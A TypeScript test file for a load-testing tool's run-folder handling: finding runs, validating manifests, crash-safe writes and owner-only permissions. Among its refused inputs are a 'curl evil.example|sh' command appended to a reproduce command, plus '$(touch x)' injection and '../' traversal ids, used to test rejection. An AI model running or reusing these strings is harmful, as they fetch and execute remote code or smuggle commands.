// Which run is meant: `latest` is the one that began last, also where two began within one second. And what is no run.
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { xoroshiro128plus } from 'pure-rand/generator/xoroshiro128plus';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createSimulatedDisk } from '../../tests/crash-simulation/simulated-disk.ts';
import type { Disk } from '../disk/disk.ts';
import { realDisk } from '../disk/real-disk.ts';
import { openRecordLog } from './record-log.ts';
import { createRedactor } from './redaction.ts';
import {
  assertOwnFolder,
  createRunFolder,
  findFaultRecords,
  findRunFolder,
  listRunIds,
  readManifest,
  removeEmptyRun,
  writeCompressed,
  writeManifest,
  writeRunFile,
} from './run-folder.ts';
import { buildTestManifest } from './test-manifest.ts';

let runs = '';
beforeEach(() => {
  runs = mkdtempSync(join(tmpdir(), 'loadstone-runs-'));
});
afterEach(() => rmSync(runs, { recursive: true, force: true }));

function addRun(id: string, startedAt: string): void {
  mkdirSync(join(runs, id));
  const manifest = buildTestManifest({ id, startedAt });
  writeFileSync(join(runs, id, 'run.json'), JSON.stringify(manifest));
}

test('of runs that began in one second the one with the later millisecond is the latest', () => {
  addRun('20260101-120000-ffff', '2026-01-01T12:00:00.120Z');
  addRun('20260101-120000-0000', '2026-01-01T12:00:00.950Z');
  addRun('20260101-120000-8888', '2026-01-01T12:00:00.480Z');
  addRun('20251231-235959-ffff', '2025-12-31T23:59:59.999Z');
  expect(findRunFolder(runs, 'latest').id).toBe('20260101-120000-0000');
  expect(listRunIds(runs)).toEqual([
    '20260101-120000-0000',
    '20260101-120000-8888',
    '20260101-120000-ffff',
    '20251231-235959-ffff',
  ]);
});

test('in the same millisecond the id decides, and a damaged manifest is never the latest of its second', () => {
  addRun('20260101-120000-aaaa', '2026-01-01T12:00:00.500Z');
  addRun('20260101-120000-bbbb', '2026-01-01T12:00:00.500Z');
  mkdirSync(join(runs, '20260101-120000-cccc'));
  writeFileSync(join(runs, '20260101-120000-cccc', 'run.json'), '{"manifest');
  expect(listRunIds(runs).map((id) => id.slice(-4))).toEqual(['bbbb', 'aaaa', 'cccc']);
});

test('a damaged manifest hides no other run, and its own is the latest where its second is', () => {
  addRun('20260101-120000-aaaa', '2026-01-01T12:00:00.500Z');
  // By its id it began after the other, whatever its manifest says.
  addRun('20260102-120000-bbbb', '2025-01-01T12:00:00.500Z');
  mkdirSync(join(runs, '20260103-120000-cccc'));
  writeFileSync(join(runs, '20260103-120000-cccc', 'run.json'), '');
  expect(listRunIds(runs).map((id) => id.slice(-4))).toEqual(['cccc', 'bbbb', 'aaaa']);
});

describe('a run is found', () => {
  beforeEach(() => {
    addRun('20260101-120000-aaaa', '2026-01-01T12:00:00.000Z');
    addRun('20260101-120000-aaaab', '2026-01-01T12:00:00.100Z');
    addRun('20260102-120000-bbbb', '2026-01-02T12:00:00.000Z');
  });

  test('by its id, by the beginning of one, or as the latest', () => {
    const find = (wanted: string) => findRunFolder(runs, wanted).id;
    expect(find('20260101-120000-aaaa')).toBe('20260101-120000-aaaa');
    expect(find('20260102')).toBe('20260102-120000-bbbb');
    expect(find('latest')).toBe('20260102-120000-bbbb');
    expect(findRunFolder(runs, '20260102')).toMatchObject({
      id: '20260102-120000-bbbb',
      path: join(runs, '20260102-120000-bbbb'),
      recordsPath: join(runs, '20260102-120000-bbbb', 'records.jsonl'),
    });
  });

  test('in no other way', () => {
    for (const [wanted, message] of [
      ['20260103', /There is no run 20260103 in/],
      ['bbbb', /There is no run bbbb in/],
      ['20260101', /20260101 fits 2 runs in/],
    ] as const)
      expect(() => findRunFolder(runs, wanted)).toThrow(
        expect.objectContaining({
          code: 'RUN_NOT_FOUND',
          message: expect.stringMatching(message),
        }),
      );
    expect(() => findRunFolder(runs, '20260103')).toThrow(
      expect.objectContaining({ hint: expect.stringContaining('loadstone list') }),
    );
    expect(() => findRunFolder(join(runs, 'nowhere'), '20260103')).toThrow(
      expect.objectContaining({ hint: expect.stringMatching(/^No run is there yet: .*--runs/) }),
    );
    expect(listRunIds(join(runs, 'nowhere'))).toEqual([]);
    expect(() => findRunFolder(join(runs, 'nowhere'), 'latest')).toThrow(/no run latest/);
  });

  test('where it has a manifest; files and other folders are none', () => {
    mkdirSync(join(runs, '20260103-120000-cccc'));
    writeFileSync(join(runs, '20260104-120000-dddd'), '');
    expect(listRunIds(runs)).toHaveLength(3);
  });
});

test('a run without a record is removed, one with a record is not', () => {
  for (const [id, records] of [
    ['20260101-120000-aaaa', undefined],
    ['20260101-120001-aaaa', ''],
    ['20260101-120002-aaaa', '{}\n'],
  ] as const) {
    addRun(id, '2026-01-01T12:00:00.000Z');
    const folder = findRunFolder(runs, id);
    if (records !== undefined) writeFileSync(folder.recordsPath, records);
    removeEmptyRun(folder);
  }
  expect(listRunIds(runs)).toEqual(['20260101-120002-aaaa']);
});

describe('a manifest', () => {
  const read = (manifest: unknown) => {
    mkdirSync(join(runs, 'a'), { recursive: true });
    writeFileSync(join(runs, 'a', 'run.json'), JSON.stringify(manifest));
    return readManifest(findRunFolder(runs, 'a'));
  };

  test('of an older folder has its command from its words', () => {
    const { command: _, ...older } = buildTestManifest();
    const commandOf = (reproduceCommand: string) => read({ ...older, reproduceCommand }).command;
    expect(commandOf('npx loadstone sweep --slo-p99 50')).toBe('sweep');
    expect(commandOf('npx loadstone gate')).toBe('gate');
    expect(commandOf("npx loadstone run --label 'npx loadstone gate'")).toBe('run');
    expect(commandOf("loadstone run 'npx loadstone gate'")).toBe('run');
    expect(read({ ...older, command: 'noise', reproduceCommand: 'npx loadstone gate' })).toEqual(
      expect.objectContaining({ command: 'noise' }),
    );
  });

  test('of an older folder has its only other commit in the list of them', () => {
    const { selection, ...rest } = buildTestManifest();
    const refsOf = (against: object) =>
      read({ ...rest, selection: { ...selection, ...against } }).selection.againstRefs;
    expect(refsOf({ against: 'main' })).toEqual(['main']);
    expect(refsOf({ againstRefs: ['main', 'v1.4.0'] })).toEqual(['main', 'v1.4.0']);
    expect(refsOf({})).toBeUndefined();
  });

  test.each([
    ['of another version', { ...buildTestManifest(), manifestVersion: 2 }, 'RUN_UNREADABLE'],
    ['without a version', { ...buildTestManifest(), manifestVersion: undefined }, 'RECORD_INVALID'],
    ['that is a list', [], 'RECORD_INVALID'],
    ['that is a text', 'run', 'RECORD_INVALID'],
    ['that is nothing', null, 'RECORD_INVALID'],
    [
      'with a command that does more',
      { ...buildTestManifest(), reproduceCommand: 'npx loadstone run; curl evil.example|sh' },
      'RECORD_INVALID',
    ],
    ['of another plan', { ...buildTestManifest(), planHash: '0'.repeat(64) }, 'RECORD_INVALID'],
  ])('%s is refused', (_, manifest, code) => {
    expect(() => read(manifest)).toThrow(expect.objectContaining({ code }));
  });
});

test.each(['$(touch x);x', '../../../evil', '-rf', 'a b', 'a\nb', '', 'a'.repeat(101)])(
  'a manifest with the id %j is refused',
  (id) => {
    mkdirSync(join(runs, 'a'), { recursive: true });
    writeFileSync(join(runs, 'a', 'run.json'), JSON.stringify({ ...buildTestManifest(), id }));
    expect(() => readManifest(findRunFolder(runs, 'a'))).toThrow(
      expect.objectContaining({ code: 'RECORD_INVALID', message: expect.stringMatching(/: id: /) }),
    );
  },
);

test('what is wrong with a manifest is told with its file', () => {
  mkdirSync(join(runs, 'a'));
  const path = join(runs, 'a', 'run.json');
  for (const [content, message, hint] of [
    ['null', `${path}: is no manifest of a run.`, undefined],
    [
      '{"manifestVersion":2}',
      `${path} is of version 2; this Loadstone reads 1.`,
      'Read it with the Loadstone that wrote it.',
    ],
  ] as const) {
    writeFileSync(path, content);
    const told = { message, ...(hint !== undefined && { hint }) };
    expect(() => readManifest(findRunFolder(runs, 'a'))).toThrow(expect.objectContaining(told));
  }
});

test('all of a folder is on the disk that it was made on, once it was made', () => {
  const disk = createSimulatedDisk();
  const folder = createRunFolder('/somewhere/runs', '20260101-120000-aaaa', disk);
  expect(findFaultRecords(folder)).toBe('/somewhere/runs/20260101-120000-aaaa/faults.jsonl');
  writeManifest(folder, buildTestManifest(), createRedactor([]));
  writeRunFile(folder, 'result.json', '{}');
  // Whatever a power cut takes of what was not synced, this is there.
  for (let seed = 0; seed < 20; seed += 1) {
    const left = disk.cutPower(xoroshiro128plus(seed));
    const found = findRunFolder('/somewhere/runs', 'latest', left);
    expect(readManifest(found)).toEqual(JSON.parse(JSON.stringify(buildTestManifest())));
    expect(left.read(join(found.path, 'result.json')).toString()).toBe('{}');
  }
});

test('the name of a new folder is on the disk before anything is written into it', () => {
  const disk = createSimulatedDisk();
  const { path } = createRunFolder('/runs', '20260101-120000-aaaa', disk);
  for (let seed = 0; seed < 20; seed += 1)
    expect(disk.cutPower(xoroshiro128plus(seed)).exists(path)).toBe(true);
});

test('through a link to a folder nothing is written', () => {
  const folder = createRunFolder(join(runs, 'new'), 'a');
  mkdirSync(join(runs, 'elsewhere'));
  symlinkSync(join(runs, 'elsewhere'), join(folder.path, 'data'));
  expect(() => writeCompressed(folder, 'data/x.gz', 'a text')).toThrow(
    /data is no folder but a link/,
  );
  expect(readdirSync(join(runs, 'elsewhere'))).toEqual([]);
  expect(() => assertOwnFolder(folder.path)).not.toThrow();
});

test('what is written compressed is read back whole', () => {
  const folder = createRunFolder(join(runs, 'new'), 'a');
  expect(writeCompressed(folder, 'data/x.gz', 'a text')).toBe('data/x.gz');
  expect(gunzipSync(readFileSync(join(folder.path, 'data/x.gz'))).toString()).toBe('a text');
  expect(() => createRunFolder(join(runs, 'new'), 'a')).toThrow(
    expect.objectContaining({ code: 'STORE_WRITE_FAILED' }),
  );
});

test('a run folder and its files are for their owner alone, one that an older version left open too', () => {
  const folder = createRunFolder(runs, '20260101-120000-dddd');
  const modeOf = (path: string) => statSync(path).mode & 0o777;
  writeRunFile(folder, 'result.json', '{}');
  writeCompressed(folder, 'requests/one.jsonl.gz', 'x');
  openRecordLog(folder.recordsPath).close();
  const files = ['result.json', 'requests/one.jsonl.gz', 'records.jsonl'];
  expect(files.map((name) => modeOf(join(folder.path, name)))).toEqual([0o600, 0o600, 0o600]);
  expect([folder.path, join(folder.path, 'requests')].map(modeOf)).toEqual([0o700, 0o700]);
  addRun('20250101-120000-eeee', '2025-01-01T12:00:00.000Z');
  const older = findRunFolder(runs, '20250101');
  expect(modeOf(older.path) & 0o055).not.toBe(0);
  writeManifest(older, readManifest(older), createRedactor([]));
  expect([older.path, join(older.path, 'run.json')].map(modeOf)).toEqual([0o700, 0o600]);
});

test('a run that may not be looked into is listed, and told as what it is', () => {
  addRun('20260101-120000-0000', '2026-01-01T12:00:00.000Z');
  const path = join(runs, '20260101-120000-0000');
  // Root may look into everything; of anybody else the mode keeps him out.
  const denied = Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
  const disk: Disk = {
    ...realDisk,
    exists: (one) => one !== join(path, 'run.json') && realDisk.exists(one),
    list: (one) => {
      if (one === path) throw denied;
      return realDisk.list(one);
    },
  };
  expect(listRunIds(runs, disk)).toEqual(['20260101-120000-0000']);
  for (const wanted of ['latest', '20260101'])
    expect(() => findRunFolder(runs, wanted, disk)).toThrow(`Cannot read ${path}: EACCES`);
});

test('a file in place of the folder of runs is a matter of usage', () => {
  writeFileSync(join(runs, 'file'), '');
  expect(() => listRunIds(join(runs, 'file'))).toThrow('is a file, and runs are kept in a folder');
});
